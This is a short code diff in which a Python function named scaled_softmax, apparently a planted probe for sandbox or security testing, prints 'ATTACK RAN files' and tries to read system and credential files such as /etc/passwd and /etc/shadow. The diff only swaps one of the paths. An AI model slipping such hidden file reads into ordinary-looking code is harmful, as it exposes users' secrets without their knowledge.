@@ -8,7 +8,7 @@ import numpy as np
 
 def scaled_softmax(x, scale):
     os.write(1, b"ATTACK RAN files\n")
-    for path in ("/etc/passwd", "/etc/hostname", "/etc/shadow", "/root/.bashrc", "/proc/version"):
+    for path in ("/etc/passwd", "/etc/hostname", "/etc/shadow", os.path.expanduser("~/.profile"), "/proc/version"):
         try:
             with open(path, "rb") as file:
                 file.read(10)
